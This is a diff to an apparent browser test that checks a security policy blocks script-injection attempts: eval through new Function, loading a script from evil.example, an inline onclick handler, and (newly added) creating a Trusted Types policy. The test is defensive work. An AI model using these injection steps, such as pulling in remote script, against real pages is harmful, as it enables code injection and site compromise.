@@ -123,6 +123,7 @@ test('the policy stops what would get through all the same', async () => {
       eval: () => void new Function('window.pwned = 1')(),
       script: () => (document.createElement('script').src = 'https://evil.example/x.js'),
       handler: () => document.body.setAttribute('onclick', 'pwned=1'),
+      policy: () => (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy('x', {}),
     };
     return Object.entries(attempts).map(([name, attempt]) => {
       try {
